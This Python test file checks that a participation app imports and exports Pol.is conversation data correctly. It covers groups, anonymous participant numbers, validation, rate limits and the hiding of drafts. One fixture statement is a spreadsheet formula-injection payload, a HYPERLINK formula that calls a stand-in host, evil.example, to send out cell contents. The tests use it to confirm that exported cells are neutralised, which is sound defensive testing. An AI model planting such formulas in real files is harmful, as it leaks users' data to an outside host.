"""Open data in Pol.is's export format: real Pol.is conversations give Pol.is's groups here, they import as
closed forums for staff (`forums import-polis`), and a forum's export (page, API, `forums export-polis`) has
Pol.is's columns, anonymous numbers and safe cells, and re-imports with the same groups."""

import csv
import io
import zipfile
from datetime import timedelta
from pathlib import Path

import numpy as np
import pytest
from sklearn.metrics import adjusted_rand_score
from sqlalchemy import func, select

from participation.accounts.models import User
from participation.core.time import utcnow
from participation.extensions import db
from participation.forums import counts, opinion, polis, queries, services
from participation.forums.models import Forum, Participant, Reaction, Statement
from tests import factories
from tests.conftest import api_token, login

DATA = Path(__file__).parent / "polis_data"


def rows(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text)))


@pytest.mark.parametrize("name, least", [("brexit-consensus", 0.8), ("15-per-hour-seattle", 0.8)])
def test_real_conversations_give_pol_is_groups(name, least):
    conversation = polis.read_export(DATA / name)
    theirs = np.array([-1 if group is None else group for group in conversation.group_ids])
    groups = opinion.opinion_groups(conversation.votes, conversation.moderated_out)
    both = (groups.labels >= 0) & (theirs >= 0)
    assert groups.count == conversation.groups == 2
    assert adjusted_rand_score(theirs[both], groups.labels[both]) >= least  # 0.876 and 0.884 (bench: 17 of them)


def import_cli(app, directory) -> tuple[int, str]:
    result = app.test_cli_runner().invoke(args=["forums", "import-polis", str(directory)])
    assert result.exit_code == 0, result.output
    return int(result.output.strip().splitlines()[-1]), result.output


def test_import_polis_makes_a_closed_forum_for_staff_with_the_exports_numbers(app, client, db_session):
    forum_id, output = import_cli(app, DATA / "london.youth.policing")
    assert "36 statements" not in output and "39 statements, 26 participants" in output
    forum = db.session.get(Forum, forum_id)
    assert forum.state == "closed" and forum.opened_at is None
    assert forum.title == "What is the best way to engage more young people in local scrutiny of policing?"
    assert forum.imported_from == "https://pol.is/9xxwa9jpkm"
    statements = list(db.session.scalars(select(Statement).where(Statement.forum_id == forum_id)
                                         .order_by(Statement.id)))
    with (DATA / "london.youth.policing" / "comments.csv").open() as handle:
        comments = {int(row["comment-id"]): row for row in csv.DictReader(handle)}
    assert len(statements) == 39
    for number, statement in enumerate(statements):
        assert statement.text == comments[number]["comment-body"]
        assert statement.state == ("rejected" if comments[number]["moderated"] == "-1" else "approved")
    numbers = set(db.session.scalars(select(Participant.number).where(Participant.forum_id == forum_id)))
    with (DATA / "london.youth.policing" / "participants-votes.csv").open() as handle:
        voters = [row for row in csv.DictReader(handle)]
    assert {int(row["participant"]) for row in voters} <= numbers
    reactions = db.session.scalar(select(func.count()).select_from(Reaction).join(Statement).where(
        Statement.forum_id == forum_id))
    assert reactions == sum(int(row["n-votes"]) for row in voters)
    # A vote's time comes from votes.csv (its last vote on that comment).
    first = db.session.scalar(select(func.min(Reaction.reacted_at)).join(Statement).where(
        Statement.forum_id == forum_id))
    assert first.year == 2022 and first.month == 7
    # The placeholder accounts cannot sign in and are listed nowhere.
    people = db.session.scalars(select(User).join(Participant, Participant.user_id == User.id)
                                .where(Participant.forum_id == forum_id)).all()
    assert all(person.email is None and person.password_hash is None and person.deleted_at for person in people)
    # Only staff see it; it is not a forum opened here; its state does not change.
    assert client.get(f"/forums/{forum_id}").status_code == 404
    assert client.get(f"/api/v1/forums/{forum_id}/opinions").status_code == 404
    assert "engage more young people" not in client.get("/forums").get_data(as_text=True)
    assert queries.count_opened(utcnow() - timedelta(days=1), utcnow() + timedelta(days=1)) == 0
    staff = factories.UserFactory(roles=["staff"])
    db.session.commit()
    login(client, staff)
    page = client.get(f"/forums/{forum_id}").get_data(as_text=True)
    assert "Pol.is 대화 내보내기에서 가져온 연구용 사본입니다" in page and "https://pol.is/9xxwa9jpkm" in page
    with pytest.raises(services.InvalidTransition):
        services.transition(forum, "answered", staff, answer="답변")
    assert forum.opinion_map["groups"]


@pytest.mark.parametrize("problem, message", [
    ("missing", "participants-votes.csv: missing"),
    ("gap", "comment-id must number the comments 0, 1, 2 … without gaps (missing: 7)"),
    ("vote", "line 3: vote '2' on comment 0 is not 1, -1 or 0"),
])
def test_an_export_that_is_not_pol_is_is_refused_with_where_and_why_and_nothing_is_written(
        app, db_session, tmp_path, problem, message):
    for name in ("summary.csv", "comments.csv", "participants-votes.csv"):
        (tmp_path / name).write_bytes((DATA / "brexit-consensus" / name).read_bytes())
    if problem == "missing":
        (tmp_path / "participants-votes.csv").unlink()
    elif problem == "gap":
        kept = [row for row in csv.reader(io.StringIO((tmp_path / "comments.csv").read_text())) if row[2] != "7"]
        with (tmp_path / "comments.csv").open("w", newline="") as handle:
            csv.writer(handle).writerows(kept)
    else:
        lines = (tmp_path / "participants-votes.csv").read_text().splitlines(keepends=True)
        cells = lines[2].split(",")
        cells[6] = "2"
        lines[2] = ",".join(cells)
        (tmp_path / "participants-votes.csv").write_text("".join(lines))
    forums_before = db.session.scalar(select(func.count()).select_from(Forum))
    result = app.test_cli_runner().invoke(args=["forums", "import-polis", str(tmp_path)])
    assert result.exit_code == 1 and message in result.output
    assert db.session.scalar(select(func.count()).select_from(Forum)) == forums_before


def test_exporting_an_import_and_importing_it_again_gives_the_same_groups_and_numbers(app, client, db_session,
                                                                                      tmp_path):
    first_id, _ = import_cli(app, DATA / "brexit-consensus")
    staff = factories.UserFactory(roles=["staff"])
    db.session.commit()
    login(client, staff)
    response = client.get(f"/forums/{first_id}/export/polis-export.zip")
    assert response.status_code == 200 and response.mimetype == "application/zip"
    with zipfile.ZipFile(io.BytesIO(response.data)) as archive:
        assert sorted(archive.namelist()) == [f"forum-{first_id}/{name}" for name in sorted(polis.FILES)]
        archive.extractall(tmp_path)
    exported = tmp_path / f"forum-{first_id}"
    second_id, output = import_cli(app, exported)
    assert "2 opinion groups here (the export showed 2)" in output
    again = tmp_path / "again"
    result = app.test_cli_runner().invoke(args=["forums", "export-polis", str(second_id), str(again)])
    assert result.exit_code == 0, result.output
    for name in polis.FILES:  # the same groups, numbers, counts and texts, byte for byte
        assert (again / name).read_bytes() == (exported / name).read_bytes(), name
    # And the groups are Pol.is's, but for its (stated) differences: group-id from 0, as Pol.is numbers them.
    with (DATA / "brexit-consensus" / "participants-votes.csv").open() as handle:
        theirs = {row["participant"]: row["group-id"] for row in csv.DictReader(handle)}
    ours = {row["participant"]: row["group-id"] for row in rows((again / "participants-votes.csv").read_text())}
    compared = [key for key in theirs if theirs[key] and ours.get(key)]
    assert adjusted_rand_score([theirs[key] for key in compared], [ours[key] for key in compared]) > 0.8


def make_forum_with_camps(title="따릉이 요금"):
    """Twelve citizens in two camps of six; those made last reacted first (their numbers are not their ids)."""
    for _ in range(20):
        factories.UserFactory()  # ids that are not participant numbers
    forum = factories.ForumFactory(title=title)
    staff = factories.UserFactory(roles=["staff"])
    texts = ["=HYPERLINK(\"https://evil.example/?d=\"&A1,\"더보기\")", "-2+3", "요금을 올려도 된다",
             "요금을 유지해야 한다", "정기권은 그대로 둔다", "심야 요금을 따로 정한다", "대여소를 늘린다",
             "헬멧을 빌려준다"]
    start = utcnow() - timedelta(days=5)
    statements = [factories.ForumStatementFactory(forum_id=forum.id, author_id=staff.id, text=text,
                                                  created_at=start) for text in texts]
    factories.ForumStatementFactory(forum_id=forum.id, text="비밀 번호 01012345678", state="rejected")
    factories.ForumStatementFactory(forum_id=forum.id, text="검토 중인 문장", state="pending")
    camps = [(camp, factories.UserFactory()) for camp in (1, -1) for _ in range(6)]
    for arrival, (camp, user) in enumerate(reversed(camps)):
        for index, statement in enumerate(statements):
            value = "agree" if index < 2 or (index < 5) == (camp > 0) else "disagree"
            factories.ForumReactionFactory(statement_id=statement.id, user_id=user.id, value=value,
                                           reacted_at=start + timedelta(hours=1 + arrival, minutes=index))
    counts.refresh_forum(forum.id)
    db.session.commit()
    return forum, camps


def test_a_forums_export_has_pol_is_columns_anonymous_numbers_and_safe_cells(client, db_session):
    forum, camps = make_forum_with_camps()
    text = {}
    for name in polis.FILES:
        response = client.get(f"/forums/{forum.id}/export/{name}")
        assert response.status_code == 200 and response.headers["Content-Type"] == "text/csv; charset=utf-8"
        assert response.headers["Content-Disposition"] == f'attachment; filename="{name}"'
        text[name] = response.get_data(as_text=True)
    assert text["comments.csv"].splitlines()[0] == ",".join(polis.COMMENT_COLUMNS)
    assert text["votes.csv"].splitlines()[0] == ",".join(polis.VOTE_COLUMNS)
    assert text["participants-votes.csv"].splitlines()[0] == \
        ",".join([*polis.PARTICIPANT_COLUMNS, *map(str, range(8))])
    assert [line.split(",")[0] for line in text["summary.csv"].splitlines()] == list(polis.SUMMARY_KEYS)

    comments = rows(text["comments.csv"])
    assert [row["comment-id"] for row in comments] == [str(number) for number in range(10)]
    # A formula is neutralised (and read back as written); a plain text that looks like a sum, too.
    assert comments[0]["comment-body"].startswith("'=HYPERLINK(") and comments[1]["comment-body"] == "'-2+3"
    assert polis._unneutralised(comments[0]["comment-body"]).startswith("=HYPERLINK(")
    # Statements not approved are there with their number and status, never with their text.
    assert (comments[8]["moderated"], comments[8]["comment-body"]) == ("-1", "")
    assert (comments[9]["moderated"], comments[9]["comment-body"]) == ("0", "")
    assert "01012345678" not in "".join(text.values())
    # The staff author is participant 0 (the first to take part), the citizens 1–12 in the order they came:
    # numbers, never user ids (which here are 21 and up).
    assert {row["author-id"] for row in comments[:8]} == {"0"}
    participants = rows(text["participants-votes.csv"])
    assert [row["participant"] for row in participants] == [str(number) for number in range(1, 13)]
    numbers = dict(db.session.execute(select(Participant.user_id, Participant.number)
                                      .where(Participant.forum_id == forum.id)).all())
    assert [numbers[user.id] for _, user in reversed(camps)] == list(range(1, 13))
    assert min(user.id for _, user in camps) > 20
    # group-id is the page's group number minus one; the camps are the groups.
    stored = db.session.get(Forum, forum.id).opinion_map
    group_of = {row["participant"]: row["group-id"] for row in participants}
    for camp in (1, -1):
        assert len({group_of[str(numbers[user.id])] for side, user in camps if side == camp}) == 1
    assert {int(row["group-id"]) for row in participants} == {group["number"] - 1 for group in stored["groups"]}
    assert participants[0]["n-votes"] == "8" and participants[0]["n-agree"] == "5"
    # Times are days (midnight in Seoul).
    votes = rows(text["votes.csv"])
    assert len(votes) == 12 * 8 and {row["datetime"][11:23] for row in votes} == {"00:00:00 KST"}
    assert all(int(row["timestamp"]) % 1000 == 0 for row in votes)
    summary = dict(line.split(",", 1) for line in text["summary.csv"].splitlines()[:7])
    assert summary["voters"] == "12" and summary["voters-in-conv"] == "12" and summary["groups"] == "2"
    assert summary["url"] == f"http://localhost/forums/{forum.id}" and summary["comments"] == "8"


def test_the_api_serves_the_export_and_hides_drafts(client, db_session):
    forum, *_ = make_forum_with_camps()
    draft = factories.ForumFactory(state="draft", opened_at=None)
    citizen = factories.UserFactory()
    db.session.commit()
    response = client.get(f"/api/v1/forums/{forum.id}/export/participants-votes.csv")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    assert len(rows(response.get_data(as_text=True))) == 12
    archive = client.get(f"/api/v1/forums/{forum.id}/export/polis-export.zip")
    assert archive.status_code == 200 and zipfile.ZipFile(io.BytesIO(archive.data)).testzip() is None
    assert client.get(f"/api/v1/forums/{draft.id}/export/votes.csv",
                      headers=api_token(client, citizen)).status_code == 404
    assert client.get(f"/forums/{draft.id}/export/votes.csv").status_code == 404
    assert client.get(f"/api/v1/forums/{forum.id}/export/users.csv").status_code == 404
    opinions = client.get(f"/api/v1/forums/{forum.id}/opinions").get_json()
    assert [row["text"] for row in opinions["table"]][2] == "요금을 올려도 된다"
    assert opinions["table"][2]["total"] == {"agree": 6, "disagree": 6, "pass": 0}
    assert opinions["voters"] == 12 and opinions["divisive"]


def test_downloading_the_export_over_and_over_is_limited_per_address(app, client, db_session, monkeypatch):
    # Each download reads every reaction of the forum: a loop of downloads must not tie up the workers.
    forum, *_ = make_forum_with_camps()
    monkeypatch.setitem(app.config, "EXPORT_LIMITS", "3 per minute")
    statuses = [client.get(f"/forums/{forum.id}/export/votes.csv").status_code for _ in range(3)]
    statuses.append(client.get(f"/api/v1/forums/{forum.id}/export/polis-export.zip").status_code)
    assert statuses == [200, 200, 200, 429]
    assert client.get(f"/forums/{forum.id}").status_code == 200  # the page itself is not limited by it


def test_a_forum_with_pending_and_rejected_statements_round_trips_and_moderators_see_no_copy(app, db_session,
                                                                                             tmp_path):
    forum, _ = make_forum_with_camps()
    forum_id = forum.id
    waiting = [statement.id for statement in queries.pending_statements()]
    runner = app.test_cli_runner()
    assert runner.invoke(args=["forums", "export-polis", str(forum_id), str(tmp_path / "first")]).exit_code == 0
    copy_id, output = import_cli(app, tmp_path / "first")
    assert "2 opinion groups here (the export showed 2)" in output
    assert runner.invoke(args=["forums", "export-polis", str(copy_id), str(tmp_path / "again")]).exit_code == 0
    for name in polis.FILES:  # the copy's url is its source's
        assert (tmp_path / "again" / name).read_bytes() == (tmp_path / "first" / name).read_bytes(), name
    assert [statement.id for statement in queries.pending_statements()] == waiting
    assert queries.pending_statement_count() == len(waiting) == 1
